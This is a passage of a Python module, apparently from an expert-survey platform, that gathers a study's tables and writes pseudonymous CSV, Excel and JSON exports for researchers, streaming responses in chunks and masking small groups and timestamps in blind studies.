"""Tidy, pseudonymous exports of a study for researchers: CSV, Excel and JSON.

:func:`export_tables` gathers ten tables from the database; the writers put them in a
folder of CSV files (with ``settings.json``, the reproduction script and a README), an
Excel workbook (one sheet per table) or one JSON document.

The responses are the one table that grows with the panel (a row per number, of every
panelist, item and round: millions at 100,000 panelists).  :func:`open_export` gathers
the other tables and leaves the responses in the database (:class:`ResponseRows`);
the writers read them a chunk at a time through a server-side cursor and write each
chunk before the next is read, so that an export's memory does not depend on the
panel's size.  :func:`export_tables` holds the same export whole, for small studies
and tests.  A workbook cannot hold more than :data:`SPREADSHEET_MAX_ROWS` rows per
sheet: :func:`write_xlsx` counts first and refuses a study that does not fit
(:class:`TooLargeForSpreadsheet`) before it writes anything.

What an export never holds, at any anonymity level: a panelist's name or email (the
roster is never read here), an access token or its hash, a console user.  Panelists
appear only by their pseudonym, group and language.

A ``blind`` study's export withholds, besides (see :class:`Disclosure`): the group of
a panelist whose group has fewer members than the study's minimum group size (shown
as :data:`surveys.panel.MASKED_GROUP`), and the subgroup rows of such groups, which
hold nothing but their counts and would name what the mask hides; every answer of the
round still open (so that nobody who knows when a person submitted can find their new
pseudonym in the next export); and the time of each answer (for the same reason).
"""

from __future__ import annotations

import importlib.metadata
import inspect
import io
import json
import math
import os
import re
import shutil
import tempfile
import time
import zipfile
from collections.abc import Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, fields, replace
from datetime import datetime
from json.encoder import encode_basestring
from pathlib import Path
from typing import IO, TYPE_CHECKING, Any

from sqlalchemy import Select, func, select
from sqlalchemy.orm import Session

import analysis
from analysis.deferred import deferred
from surveys.calibration import CLASSICAL_MODEL_COLUMNS, classical_model_table
from surveys.definition import ItemDefinition, LocalizedText
from surveys.errors import DomainError
from surveys.models import (
    Item,
    ItemVersion,
    Panelist,
    Response,
    ResponseStatus,
    Round,
    RoundStatus,
    RoundSummary,
    ScoreSheet,
    Study,
    utcnow,
)
from surveys.panel import MASKED_GROUP, small_groups
from surveys.protocol import ProtocolRecord, protocol_record
from surveys.resolutions import resolvable
from surveys.rounds import (
    analysis_scales,
    consensus_rules,
    estimate_level_setting,
    part_rules_setting,
    settings_record,
)
from surveys.scores import iter_panelist_scores, stored_scores
from surveys.serialization import item_from_json
from surveys.studies import study_definition
from surveys.tracking import observations as tracker_observations

if TYPE_CHECKING:
    import numpy as np
    import pandas as pd
else:
    np = deferred("numpy")
    pd = deferred("pandas")

TABLES: tuple[str, ...] = (
    "responses",
    "summaries",
    "subgroups",
    "items",
    "codebook",
    "methods",
    "resolutions",
    "scores",
    "classical_model",
    "observations",
)
"""The tables of an export, in the order files and sheets are written."""

REPRODUCE_SCRIPT = Path(__file__).with_name("reproduce.py")
"""The reproduction script shipped as ``reproduce.py`` with every CSV export."""

RESPONSE_COLUMNS: dict[str, tuple[str, str]] = {
    "study": ("text", "The study's slug."),
    "round": ("integer", "Round number, from 1."),
    "item": ("text", "The item's stable key (see the items table)."),
    "item_version": ("integer", "The version of the item's wording the panelist answered."),
    "item_kind": (
        "text",
        "likert, probability, scenario_set, numeric_estimate, ranking, open_text, seed, "
        "signpost or cross_impact (components 'trigger:scenario', one scenario set per "
        "trigger).",
    ),
    "pseudonym": ("text", "The panelist's random pseudonym, stable across rounds."),
    "group": (
        "text",
        "The panelist's subgroup for analysis; empty when unknown.  In a blind study, "
        "(masked) when the group has fewer members than the minimum group size.",
    ),
    "language": ("text", "The panelist's preferred language code."),
    "component": (
        "text",
        "Which part of a multi-value answer the row holds: empty for likert and "
        "probability; the scenario key of a scenario set; lowest, highest, best or "
        "confidence of a numeric estimate; the option key of a ranking (value = rank, "
        "1 = first); the scenario key of a signpost (value = percent chance of seeing "
        "the signpost if that scenario unfolds); q05, q50 or q95 of a seed question "
        "(the 5th, 50th or 95th percentile).",
    ),
    "value": (
        "number",
        "The number answered (percent for probabilities and scenarios); empty for open "
        "text and for 'cannot judge'.",
    ),
    "text": ("text", "The answer to an open-text item; empty otherwise."),
    "cannot_judge": ("boolean", "True when the panelist answered 'I can't judge this'."),
    "rationale": (
        "text",
        "The panelist's reason for the answer, if given (repeated on every component row).",
    ),
    "rationale_language": (
        "text",
        "The language code of the page the answer was submitted from, which its reason "
        "is presumably written in; for answers stored before it was recorded, the "
        "panelist's preferred language.",
    ),
    "status": (
        "text",
        "submitted, or draft (saved but not submitted, e.g. after the round closed); only "
        "submitted answers enter the statistics.",
    ),
    "created_at": (
        "datetime (ISO 8601, UTC)",
        "When the answer was first saved; empty in a blind study.",
    ),
    "updated_at": (
        "datetime (ISO 8601, UTC)",
        "When the answer last changed; empty in a blind study.",
    ),
    "submitted_at": (
        "datetime (ISO 8601, UTC)",
        "When the answer was submitted; empty if not, and in a blind study.",
    ),
}

KEY_COLUMN_DESCRIPTIONS: dict[str, tuple[str, str]] = {
    "round": ("integer", "Round number the statistics describe."),
    "group": ("text", "The subgroup the row describes (empty: panelists without a group)."),
    "item": ("text", "The item's stable key."),
    "component": ("text", "The part of a multi-value item (as in responses); empty otherwise."),
}

STATISTIC_COLUMNS: dict[str, tuple[str, str]] = {
    "n": ("integer", "Number of ratings (submitted, not 'cannot judge')."),
    "n_cannot_judge": ("integer", "Number of 'cannot judge' answers."),
    "mean": ("number", "Mean of the ratings."),
    "sd": ("number", "Standard deviation with n − 1; empty when n < 2."),
    "median": ("number", "Median (0.5 quantile under the quantile method)."),
    "q1": ("number", "First quartile (0.25 quantile under the quantile method)."),
    "q3": ("number", "Third quartile (0.75 quantile under the quantile method)."),
    "iqr": ("number", "Interquartile range q3 − q1."),
    "min": ("number", "Smallest rating."),
    "max": ("number", "Largest rating."),
    "cv": ("number", "Coefficient of variation sd / mean (sd with n − 1)."),
    "mad": ("number", "Median absolute deviation from the median, unscaled."),
    "ad_mean": ("number", "Average deviation from the mean (Burke et al. 1999)."),
    "ad_median": ("number", "Average deviation from the median (Burke et al. 1999)."),
    "rwg": ("number", "Within-group agreement rwg (James, Demaree & Wolf 1984), truncated at 0."),
    "share": ("number", "Share of ratings inside the scale's agreement band, ends included."),
    "p30": ("number", "0.30 quantile."),
    "p70": ("number", "0.70 quantile."),
    "histogram": ("JSON text", "Counts per scale option, or per equal-width bin."),
    "median_ci_low": ("number", "Lower end of the seeded percentile-bootstrap CI of the median."),
    "median_ci_high": (
        "number",
        "Upper end of the seeded percentile-bootstrap CI of the median.",
    ),
    "ipr": ("number", "RAND/UCLA interpercentile range p70 − p30 on the 1–9 scale."),
    "asymmetry_index": ("number", "RAND/UCLA asymmetry index |5 − (p30 + p70) / 2|."),
    "ipras": ("number", "RAND/UCLA IPRAS = 2.35 + 1.5 × asymmetry index."),
    "rand_ucla": ("text", "RAND/UCLA verdict: agreement, indeterminate or disagreement."),
    "consensus": ("boolean", "Whether the item's consensus rule holds."),
    "state": ("text", "consensus, no_consensus or dissensus."),
    "rule": ("text", "The consensus rule applied, in words."),
    "evidence": ("text", "Each criterion's value, threshold and verdict."),
    "n_paired": ("integer", "Panelists who answered both this and the previous round."),
    "changed_share": ("number", "Share of paired panelists who changed their answer."),
    "wilcoxon_v": ("number", "Paired Wilcoxon signed-rank statistic V = W⁺ (as R)."),
    "wilcoxon_z": ("number", "Normal-approximation z of the Wilcoxon test."),
    "wilcoxon_p": ("number", "Two-sided p-value of the paired Wilcoxon test."),
    "iqr_change": ("number", "IQR minus the previous round's IQR."),
    "cv_change": ("number", "CV minus the previous round's CV."),
    "median_change": ("number", "Median minus the previous round's median."),
    "stable": ("boolean", "Whether the stability rule holds against the previous round."),
    "pool_trimmed_mean": ("number", "Trimmed-mean pool of probabilities (percent)."),
    "pool_geometric_odds": ("number", "Geometric mean of odds pool (percent)."),
    "pool_extremized": ("number", "Extremised log-odds pool (percent)."),
    "scenario_sets_normalised": (
        "number",
        "Scenario sets rescaled to sum to 100 before any statistic.",
    ),
    "scenario_sets_unusable": ("number", "Scenario sets that could not be normalised."),
    "scenario_mean_total": ("number", "Mean total of the scenario sets as answered."),
    "estimate_lowest": ("number", "Panel's lowest value, intervals standardised (IDEA)."),
    "estimate_best": ("number", "Panel's best guess (IDEA protocol)."),
    "estimate_highest": ("number", "Panel's highest value, intervals standardised (IDEA)."),
    "kendall_w": ("number", "Kendall's W of a ranking item (tie-corrected)."),
    "kendall_chi2": ("number", "χ² of Kendall's W."),
    "kendall_df": ("number", "Degrees of freedom of the χ²."),
    "kendall_p": ("number", "p-value of Kendall's W."),
    "panel_kendall_w": ("number", "Kendall's W over the likert items sharing this scale."),
    "panel_kendall_p": ("number", "p-value of the panel-level Kendall's W."),
    "panel_kendall_raters": ("number", "Panelists counted in the panel-level W."),
    "panel_alpha": ("number", "Krippendorff's alpha over the likert items sharing this scale."),
    "panel_items": ("number", "Number of items in the panel-level coefficients."),
    "quantile_method": ("text", "numpy quantile method (Hyndman & Fan type) used."),
    "masked": (
        "boolean",
        "True when the group's statistics are withheld (too few ratings, or secondary "
        "suppression); the statistics are then empty.",
    ),
}

SUMMARY_TABLE_COLUMNS: list[str] = ["round", "item", "component", *analysis.SUMMARY_COLUMNS]
SUBGROUP_TABLE_COLUMNS: list[str] = [
    "round",
    "group",
    "item",
    "component",
    *analysis.SUMMARY_COLUMNS,
    "masked",
]

ITEM_COLUMNS: dict[str, tuple[str, str]] = {
    "item": ("text", "The item's stable key."),
    "kind": ("text", "The item's kind."),
    "position": ("integer", "Order of appearance in the study, from 0."),
    "version": ("integer", "Version of the wording (1 = as loaded)."),
    "current": ("boolean", "Whether this is the wording in use now."),
    "version_note": ("text", "Why the wording changed."),
    "version_created_at": ("datetime (ISO 8601, UTC)", "When this version was made."),
    "language": ("text", "Language of the texts on this row."),
    "section": ("text", "The section the item belongs to."),
    "text": ("text", "The question as asked."),
    "help": ("text", "Help text shown with the question."),
    "scale_min": ("number", "Lowest point of a likert scale."),
    "scale_max": ("number", "Highest point of a likert scale."),
    "labels": ("text", "Scale labels, 'value=label' separated by ' | '."),
    "choices": (
        "text",
        "Scenarios or ranking options (of a cross-impact item: its triggers, then its "
        "scenarios), 'key=text' separated by ' | '.",
    ),
    "unit": ("text", "Unit of a numeric estimate."),
    "bounds": ("text", "Allowed range of a numeric estimate, 'min–max'."),
    "consensus_rule": ("text", "The item's own consensus rule, if any."),
    "retired_at": ("datetime (ISO 8601, UTC)", "When the item was retired; empty if active."),
    "retired_reason": ("text", "Why the item was retired."),
}

CODEBOOK_COLUMNS: dict[str, tuple[str, str]] = {
    "entry": ("text", "column (a column of a table) or item (an item of the study)."),
    "table": ("text", "The table the column belongs to (responses for item entries)."),
    "column": ("text", "The column's name, or the item's key."),
    "type": ("text", "The column's type, or the item's kind."),
    "description": ("text", "What the column holds, or the item's text."),
    "scale_min": ("number", "Item entries: lowest scale point or bound."),
    "scale_max": ("number", "Item entries: highest scale point or bound."),
    "components": ("text", "Item entries: the component keys its answers use."),
}

METHODS_COLUMNS: dict[str, tuple[str, str]] = {
    "key": ("text", "The setting or definition."),
    "value": ("text", "Its value, as written."),
}

# -- the scenario tracker's observations (issue 16, point 3) ---------------------------------

OBSERVATION_COLUMNS: dict[str, tuple[str, str]] = {
    "observed_on": (
        "date (ISO 8601)",
        "When the signpost was seen (or looked for and not seen), or the trigger occurred.",
    ),
    "kind": ("text", "signpost or trigger."),
    "item": ("text", "The observed item's key (a signpost item or a trigger probability item)."),
    "seen": (
        "boolean",
        "True: seen (a trigger: occurred); False: a signpost explicitly not seen by that date.",
    ),
    "note": ("text", "Where it was observed, or looked for, as the facilitator recorded it."),
    "recorded_at": ("datetime (ISO 8601, UTC)", "When the observation was recorded."),
}
"""The observations table: who recorded an observation (a console user) is never
exported, as no console user is (see the module)."""

#: The methods row of a study with observations: how the tracker uses them.
TRACKER_DEFINITION = (
    "the scenario tracker updates the pooled scenario set of the last closed round by "
    "Bayes' rule after each observation, in date order: P(s | observations) is "
    "proportional to base_s times, for each signpost observed (its latest status), its "
    "pooled likelihood P(seen | s) if seen or 1 minus it if not seen by the date; the base "
    "is the prior, or after a trigger occurred the pooled set given the latest trigger "
    "(cross-impact item); it assumes signposts independent given the scenario; the "
    "sensitivity range recomputes the timeline with each panelist's likelihoods"
)


def observation_table(session: Session, study: Study) -> pd.DataFrame:
    """The scenario tracker's observations (:data:`OBSERVATION_COLUMNS`), in the
    tracker's order (by date, then as recorded); never who recorded them."""
    records = [
        {
            "observed_on": row.observed_on.isoformat(),
            "kind": row.kind,
            "item": row.item_key,
            "seen": bool(row.seen),
            "note": row.note,
            "recorded_at": row.recorded_at.isoformat(),
        }
        for row in tracker_observations(session, study)
    ]
    frame = pd.DataFrame.from_records(records, columns=list(OBSERVATION_COLUMNS))
    frame["seen"] = frame["seen"].astype(bool)
    return frame


# -- end of the scenario tracker's observations ----------------------------------------------

RESOLUTION_COLUMNS: dict[str, tuple[str, str]] = {
    "item": ("text", "The resolved item's key (a probability item or a scenario set)."),
    "item_kind": ("text", "probability or scenario_set."),
    "outcome": (
        "text",
        "What happened: yes or no for a probability item (the event occurred within the "
        "horizon or not), the key of the scenario that unfolded for a scenario set.",
    ),
    "resolved_on": ("date (ISO 8601)", "When the outcome became known."),
    "source": ("text", "Where the outcome is known from, as the facilitator recorded it."),
    "scored_round": (
        "integer",
        "The round whose answers were scored on it (the last closed round that asked "
        "the item); empty before a round closed.",
    ),
}

SCORE_COLUMNS: dict[str, tuple[str, str]] = {
    "kind": ("text", "panelist (a panelist by pseudonym) or pool (a pooling method)."),
    "forecaster": (
        "text",
        "The panelist's pseudonym, or the pooling method: mean, median, trimmed_mean, "
        "geometric_odds, extremized (as in the summaries' pool_ columns).",
    ),
    "item": (
        "text",
        "Empty: over every resolved item the forecaster answered; else the item's key "
        "(pools only: a panelist's score per item follows from responses and resolutions).",
    ),
    "items": ("integer", "Resolved items scored."),
    "log": (
        "number",
        "Mean logarithmic score: -ln of the probability given to what happened, the "
        "probability clipped to [0.01, 0.99]; lower is better.",
    ),
    "probability_items": ("integer", "Resolved probability items scored."),
    "brier": (
        "number",
        "Mean Brier score over the probability items, (p - o)^2 in [0, 1]; lower is better.",
    ),
    "scenario_items": ("integer", "Resolved scenario sets scored."),
    "brier_scenarios": (
        "number",
        "Mean Brier score over the scenario sets, the sum over a set's scenarios of "
        "(p - o)^2, in [0, 2]; lower is better.",
    ),
}


@dataclass(frozen=True)
class ExportTables:
    """Everything an export holds; each table a DataFrame, ``settings`` JSON-ready."""

    study: str
    responses: pd.DataFrame
    summaries: pd.DataFrame
    subgroups: pd.DataFrame
    items: pd.DataFrame
    codebook: pd.DataFrame
    methods: pd.DataFrame
    #: What ``reproduce.py`` needs: per closed round its quantile method, rules and
    #: scales, and every other parameter of :func:`analysis.summarize_round`.
    settings: dict[str, Any]
    #: What happened (:data:`RESOLUTION_COLUMNS`): one row per resolved item.
    resolutions: pd.DataFrame
    #: The stored scores (:data:`SCORE_COLUMNS`): a row per panelist (by pseudonym) and
    #: per pooling method, and each pool's score per item.
    scores: pd.DataFrame
    #: Every closed round's classical model (:data:`CLASSICAL_MODEL_COLUMNS`): the
    #: experts by number, both decision makers and their quantiles per item.
    classical_model: pd.DataFrame
    #: The scenario tracker's observations (:data:`OBSERVATION_COLUMNS`).
    observations: pd.DataFrame

    def tables(self) -> dict[str, pd.DataFrame]:
        """The tables by name, in the order of :data:`TABLES`."""
        return {name: getattr(self, name) for name in TABLES}


@dataclass(frozen=True)
class StreamedExport:
    """An export ready to be written without holding its responses: every table but
    the responses in memory (they are small: a row per statistic, item or setting),
    the responses read from the database as they are written (:class:`ResponseRows`)."""

    study: str
    responses: ResponseRows
    summaries: pd.DataFrame
    subgroups: pd.DataFrame
    items: pd.DataFrame
    codebook: pd.DataFrame
    methods: pd.DataFrame
    #: As :attr:`ExportTables.settings`.
    settings: dict[str, Any]
    #: As :attr:`ExportTables.resolutions` and :attr:`ExportTables.scores` (a row per
    #: panelist: read in batches from the stored scores, held as one table).
    resolutions: pd.DataFrame
    scores: pd.DataFrame
    #: As :attr:`ExportTables.classical_model` (a row per expert and round, held whole).
    classical_model: pd.DataFrame
    #: As :attr:`ExportTables.observations`.
    observations: pd.DataFrame


Export = ExportTables | StreamedExport
"""What the writers take: the export held whole, or streamed."""


@dataclass(frozen=True)
class Disclosure:
    """What an export of one study may show of its panelists (see the module)."""

    #: A blind study: the open round's answers and every answer's time are withheld.
    blind: bool
    #: Groups whose label is masked (blind studies only): fewer members than the
    #: study's minimum group size.
    small_groups: frozenset[str]

    def group(self, group: str) -> str:
        """The label an export shows for a panelist of ``group``."""
        return MASKED_GROUP if group in self.small_groups else group


def disclosure(session: Session, study: Study) -> Disclosure:
    """What exports of ``study`` may show, from its anonymity level and panel."""
    if study.anonymity != "blind":
        return Disclosure(blind=False, small_groups=frozenset())
    return Disclosure(blind=True, small_groups=frozenset(small_groups(session, study)))


def visible_group_rows(rows: Iterable[dict[str, Any]], shown: Disclosure) -> list[dict[str, Any]]:
    """Stored subgroup rows without those of masked groups (see :class:`Disclosure`)."""
    return [row for row in rows if row.get("group") not in shown.small_groups]


def open_export(
    session: Session,
    study: Study,
    *,
    chunk_size: int | None = None,
    per_panelist: bool = True,
) -> StreamedExport:
    """Gather the export of ``study`` as the writers stream it: summaries, subgroups,
    items, codebook, methods and the reproduction settings now, the responses (read
    ``chunk_size`` at a time, :data:`RESPONSE_CHUNK` by default) as they are written.

    Reads no response: the report takes its tables from here too, without the tables
    of a row per panelist (``per_panelist=False``: the scores and the classical model's
    experts are then empty), which it does not show and which grow with the panel
    (100,000 rows, 1.6 s at 100,000 panelists)."""
    languages = list(study.languages["codes"])
    shown = disclosure(session, study)
    summaries = _stored_summaries(session, study)
    settings = reproduction_settings(session, study, summaries)
    settings["masked_group"] = MASKED_GROUP if shown.small_groups else None
    observed = observation_table(session, study)
    methods = _methods(study, summaries, settings, shown, protocol_record(session, study))
    return StreamedExport(
        study=study.slug,
        responses=ResponseRows(session, study, shown, chunk_size or RESPONSE_CHUNK),
        summaries=_summary_table(summaries, "rows"),
        subgroups=_summary_table(summaries, "groups", shown),
        items=_items(study, languages),
        codebook=_codebook(study, languages),
        methods=_with_tracker_definition(methods, observed),
        settings=settings,
        resolutions=resolution_table(session, study),
        scores=score_table(session, study)
        if per_panelist
        else pd.DataFrame(columns=list(SCORE_COLUMNS)),
        classical_model=classical_model_table(session, study)
        if per_panelist
        else pd.DataFrame(columns=list(CLASSICAL_MODEL_COLUMNS)),
        observations=observed,
    )


def resolution_table(session: Session, study: Study) -> pd.DataFrame:
    """Every resolved item (:data:`RESOLUTION_COLUMNS`), in the study's order."""
    sheet = session.get(ScoreSheet, study.id)
    rounds = dict(sheet.settings.get("rounds", {})) if sheet is not None else {}
    records = [
        {
            "item": entry.definition.key,
            "item_kind": entry.definition.kind,
            "outcome": entry.resolution.outcome,
            "resolved_on": entry.resolution.resolved_on.isoformat(),
            "source": entry.resolution.source,
            "scored_round": rounds.get(entry.definition.key),
        }
        for entry in resolvable(session, study)
        if entry.resolution is not None
    ]
    frame = pd.DataFrame.from_records(records, columns=list(RESOLUTION_COLUMNS))
    # Whole numbers, empty where no round is scored yet (not 1.0 and NaN).
    frame["scored_round"] = pd.Series(
        [record["scored_round"] for record in records], index=frame.index, dtype=object
    )
    return frame


def score_table(session: Session, study: Study) -> pd.DataFrame:
    """The stored scores (:data:`SCORE_COLUMNS`): the pooling methods (over all items,
    then per item), then every panelist by pseudonym.  Pseudonyms only: the roster is
    never read."""
    stored = stored_scores(session, study)
    records: list[dict[str, Any]] = []
    if stored is not None:
        records.extend({"kind": "pool", **row} for row in stored.pools)
        for rows in stored.pool_items.values():
            records.extend({"kind": "pool", **row} for row in rows)
        records.extend({"kind": "panelist", **row} for row in iter_panelist_scores(session, study))
    frame = pd.DataFrame.from_records(records, columns=list(SCORE_COLUMNS))
    for column in ("items", "probability_items", "scenario_items"):
        frame[column] = frame[column].astype("int64")
    for column in ("log", "brier", "brier_scenarios"):
        frame[column] = frame[column].astype("float64")
    return frame


def export_tables(session: Session, study: Study) -> ExportTables:
    """Gather the export of ``study`` whole, the responses in one DataFrame: for small
    studies and tests (the downloads and ``elicit export`` stream, :func:`open_export`)."""
    streamed = open_export(session, study)
    responses = streamed.responses
    return ExportTables(
        study=streamed.study,
        responses=_responses(session, responses.study, responses.shown),
        summaries=streamed.summaries,
        subgroups=streamed.subgroups,
        items=streamed.items,
        codebook=streamed.codebook,
        methods=streamed.methods,
        settings=streamed.settings,
        resolutions=streamed.resolutions,
        scores=streamed.scores,
        classical_model=streamed.classical_model,
        observations=streamed.observations,
    )


def _protocol_rows(protocol: ProtocolRecord | None) -> list[tuple[str, Any]]:
    """The stamp (time, SHA-256 of the stamped TOML) and every amendment, with the round
    it first applied to, as methods rows; no one's email."""
    if protocol is None:
        return [("protocol.stamp", "not stamped")]
    rows: list[tuple[str, Any]] = [
        ("protocol.stamped_at", protocol.stamped_at.isoformat()),
        ("protocol.sha256", protocol.sha256),
        ("protocol.consensus_items", protocol.consensus_items),
        ("protocol.amendments", len(protocol.amendments)),
    ]
    for number, amendment in enumerate(protocol.amendments, start=1):
        prefix = f"amendment.{number}"
        rows += [
            (f"{prefix}.what", amendment.what),
            (f"{prefix}.change", amendment.change),
            (f"{prefix}.first_round", amendment.first_round),
            (f"{prefix}.at", amendment.at.isoformat()),
            (f"{prefix}.reason", amendment.reason),
            (f"{prefix}.old", amendment.old),
            (f"{prefix}.new", amendment.new),
        ]
    return rows


# -- responses ---------------------------------------------------------------------------


#: The export's order of responses: by round, item as placed (its id should two items
#: share a place), and pseudonym, which is unique within a round's responses to an item
#: (a panelist answers an item once a round), so the order is total.
RESPONSE_ORDER = (Round.number, Item.position, Item.id, Panelist.pseudonym)


def _response_query(study: Study, shown: Disclosure) -> Select[Any]:
    """Every response of ``study`` with what its export row needs, in a stable order
    (in a blind study, those of closed rounds only)."""
    query = (
        select(
            Round.number,
            Item.key,
            Item.kind,
            Response.item_version,
            Panelist.pseudonym,
            Panelist.group,
            Panelist.language,
            Response.answer,
            Response.rationale,
            func.coalesce(Response.language, Panelist.language),
            Response.status,
            Response.created_at,
            Response.updated_at,
            Response.submitted_at,
        )
        .join(Response.round)
        .join(Response.item)
        .join(Response.panelist)
        .where(Round.study_id == study.id)
        .order_by(*RESPONSE_ORDER)
    )
    if shown.blind:
        query = query.where(Round.status == RoundStatus.CLOSED)
    return query


def _response_record(study: Study, row: Any, shown: Disclosure) -> dict[str, Any]:
    """One response as a record: the export's columns but the answer's, and under
    ``"values"`` its (component, value, text, cannot judge) rows."""
    (number, key, kind, version, pseudonym, group, language, answer, *rest) = row
    rationale, rationale_language, status, created, updated, submitted = rest
    if shown.blind:
        created = updated = submitted = None
    return {
        "study": study.slug,
        "round": number,
        "item": key,
        "item_version": version,
        "item_kind": kind,
        "pseudonym": pseudonym,
        "group": shown.group(group),
        "language": language,
        "values": _answer_rows(answer),
        "rationale": rationale,
        "rationale_language": rationale_language,
        "status": str(status.value if hasattr(status, "value") else status),
        "created_at": created,
        "updated_at": updated,
        "submitted_at": submitted,
    }


def response_page(
    session: Session,
    study: Study,
    *,
    round_number: int | None = None,
    offset: int = 0,
    limit: int = 100,
) -> tuple[int, list[dict[str, Any]]]:
    """(total, records) of one page of the study's responses, in the export's order
    (:data:`RESPONSE_ORDER`); each record as :func:`_response_record` makes it.  For
    the API's paged reads.

    The order runs through blocks, one per round and item, each the round's responses
    to the item by pseudonym.  The blocks are counted (:func:`_response_blocks`: a
    closed round's counts are stored, the open round's come from an index), the page's
    first block found by its offset, and only the page's panelists read from it and
    the blocks after, through ``ix_response_round_item``: no sort of the whole study's
    responses, which at 100,000 panelists (3,600,000 of them) took 1.4 s for the first
    page and 4 s for the last."""
    shown = disclosure(session, study)
    blocks = _response_blocks(session, study, shown, round_number)
    total = sum(count for _, _, count in blocks)
    records: list[dict[str, Any]] = []
    skip = max(offset, 0)
    for round_id, item_id, count in blocks:
        if len(records) >= limit:
            break
        if skip >= count:
            skip -= count
            continue
        panelists = list(
            session.execute(
                select(Response.panelist_id)
                .join(Panelist, Panelist.id == Response.panelist_id)
                .where(
                    Response.round_id == round_id,
                    Response.item_id == item_id,
                    Panelist.study_id == study.id,
                )
                .order_by(Panelist.pseudonym)
                .offset(skip)
                .limit(limit - len(records))
            ).scalars()
        )
        skip = 0
        if not panelists:
            continue
        rows = session.execute(
            _response_query(study, shown).where(
                Response.round_id == round_id,
                Response.item_id == item_id,
                Response.panelist_id.in_(panelists),
            )
        )
        records.extend(_response_record(study, row, shown) for row in rows)
    return total, records[:limit]


def _response_blocks(
    session: Session, study: Study, shown: Disclosure, round_number: int | None
) -> list[tuple[int, int, int]]:
    """(round id, item id, responses) of every round and item of ``study`` with
    responses (those of ``round_number`` only, when given; of closed rounds only in a
    blind study), in the export's order.

    A closed round's counts are those its close stored
    (:attr:`RoundSummary.response_counts`); a round without them (the open one) is
    counted per item from ``ix_response_round_item``, without reading the table."""
    rounds = select(Round.id, Round.number, Round.status, RoundSummary.response_counts).outerjoin(
        RoundSummary, RoundSummary.round_id == Round.id
    )
    rounds = rounds.where(Round.study_id == study.id)
    if shown.blind:
        rounds = rounds.where(Round.status == RoundStatus.CLOSED)
    if round_number is not None:
        rounds = rounds.where(Round.number == round_number)
    numbers: dict[int, int] = {}
    counts: dict[tuple[int, int], int] = {}
    uncounted = []
    for round_id, number, status, stored in session.execute(rounds):
        numbers[round_id] = number
        if status == RoundStatus.CLOSED and isinstance(stored, dict):
            counts.update(((round_id, int(item)), int(n)) for item, n in stored.items())
        else:
            uncounted.append(round_id)
    if uncounted:
        counted = session.execute(
            select(Response.round_id, Response.item_id, func.count())
            .where(Response.round_id.in_(uncounted))
            .group_by(Response.round_id, Response.item_id)
        )
        counts.update(((round_id, item_id), n) for round_id, item_id, n in counted)
    placed = session.execute(select(Item.id, Item.position).where(Item.study_id == study.id))
    places: dict[int, int] = {row.id: row.position for row in placed}
    ordered = sorted(
        (key for key, n in counts.items() if n > 0 and key[1] in places),
        key=lambda key: (numbers[key[0]], places[key[1]], key[1]),
    )
    return [(round_id, item_id, counts[round_id, item_id]) for round_id, item_id in ordered]


RESPONSE_CHUNK = 5_000
"""Responses read from the database, and written, at a time: enough for pandas to
work in bulk, few enough that an export's memory stays flat (a few MB per chunk)."""


@dataclass(frozen=True)
class ResponseRows:
    """The responses table of an export, left in the database: each iteration of
    :meth:`chunks` reads it again, a chunk at a time, through a server-side cursor
    (SQLAlchemy's ``yield_per``), and never holds it whole."""

    session: Session
    study: Study
    shown: Disclosure
    chunk_size: int = RESPONSE_CHUNK

    def chunks(self) -> Iterator[pd.DataFrame]:
        """The table in the export's order, as frames of the rows of at most
        ``chunk_size`` responses (:func:`_response_frame`); at least one, empty but
        with every column when there is no response."""
        result = self.session.execute(
            _response_query(self.study, self.shown),
            execution_options={"yield_per": self.chunk_size},
        )
        try:
            empty = True
            for rows in result.partitions():
                empty = False
                yield _response_frame(self.study, rows, self.shown)
            if empty:
                yield _response_frame(self.study, [], self.shown)
        finally:
            result.close()

    def count(self) -> int:
        """The number of rows the table has (one per number or text of each answer),
        counted from the answers alone, a chunk at a time."""
        query = (
            _response_query(self.study, self.shown)
            .with_only_columns(Response.answer)
            .order_by(None)
        )
        result = self.session.execute(query, execution_options={"yield_per": self.chunk_size})
        try:
            return sum(len(_answer_rows(answer)) for answer in result.scalars())
        finally:
            result.close()


def _responses(session: Session, study: Study, shown: Disclosure) -> pd.DataFrame:
    """Every response (draft or submitted) in long format, in one frame."""
    return _response_frame(study, session.execute(_response_query(study, shown)), shown)


def _response_frame(study: Study, rows: Iterable[Any], shown: Disclosure) -> pd.DataFrame:
    """The responses table's rows of the responses ``rows`` (as
    :func:`_response_query` selects them): one row per number or text."""
    records = []
    for row in rows:
        record = _response_record(study, row, shown)
        values = record.pop("values")
        tail = {
            name: record.pop(name)
            for name in (
                "rationale",
                "rationale_language",
                "status",
                "created_at",
                "updated_at",
                "submitted_at",
            )
        }
        for component, value, text, cannot_judge in values:
            records.append(
                {
                    **record,
                    "component": component,
                    "value": value,
                    "text": text,
                    "cannot_judge": cannot_judge,
                    **tail,
                }
            )
    frame = pd.DataFrame.from_records(records, columns=list(RESPONSE_COLUMNS))
    frame["round"] = frame["round"].astype("int64")
    frame["item_version"] = frame["item_version"].astype("int64")
    frame["value"] = frame["value"].astype(float)
    frame["cannot_judge"] = frame["cannot_judge"].astype(bool)
    for column in ("created_at", "updated_at", "submitted_at"):
        frame[column] = pd.to_datetime(frame[column], utc=True)
    return frame


def submitted_texts(session: Session, study: Study) -> dict[str, dict[int, int]]:
    """How many submitted open-text answers the export's responses hold, by item key
    and round (one query; in a blind study, closed rounds only, as the export)."""
    shown = disclosure(session, study)
    query = (
        _response_query(study, shown)
        .with_only_columns(Item.key, Round.number, func.count())
        .where(
            Item.kind == "open_text",
            Response.status == ResponseStatus.SUBMITTED,
            Response.answer["text"].as_string().is_not(None),
        )
        .group_by(Item.key, Round.number)
        .order_by(None)
    )
    counts: dict[str, dict[int, int]] = {}
    for key, number, count in session.execute(query):
        counts.setdefault(key, {})[int(number)] = int(count)
    return counts


def _answer_rows(answer: dict[str, Any]) -> list[tuple[str, float | None, str | None, bool]]:
    """(component, value, text, cannot judge) rows of one stored answer, as
    :func:`surveys.rounds.responses_frame` reads it."""
    rows: list[tuple[str, float | None, str | None, bool]] = []
    if "value" in answer:
        rows.append(("", float(answer["value"]), None, False))
    elif answer.get("cannot_judge"):
        rows.append(("", None, None, True))
    for component, value in answer.get("components", {}).items():
        rows.append((str(component), float(value), None, False))
    if "text" in answer:
        rows.append(("", None, str(answer["text"]), False))
    return rows


# -- summaries ---------------------------------------------------------------------------


#: The parts of a stored round summary an export reads.  Its other parts (each
